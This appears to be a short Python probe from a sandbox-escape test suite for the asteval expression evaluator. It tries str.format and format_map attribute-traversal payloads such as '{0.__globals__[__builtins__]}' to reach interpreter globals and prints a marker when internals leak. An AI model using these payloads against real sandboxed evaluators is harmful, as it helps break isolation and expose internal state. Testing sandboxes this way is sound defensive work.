# asteval: str.format/format_map attribute traversal from objects the evaluator exposes (symbol table, interpreter)
def leak(label, value):
    text = repr(value)
    if '/interp/' in text or 'site-packages' in text or 'test_escape_suite' in text:
        print('ESCAPED', label, text[:200])
for spec, obj in (('{0.__globals__[__builtins__]}', lambda: 0), ('{0.__self__.__dict__}', print), ('{0.__closure__[0].cell_contents}', (lambda: print))):
    try:
        leak(spec, spec.format(obj))
    except Exception:
        pass
'{a.__class__}'.format_map({'a': 1})
'{a.__class__}'.format_map(vars())
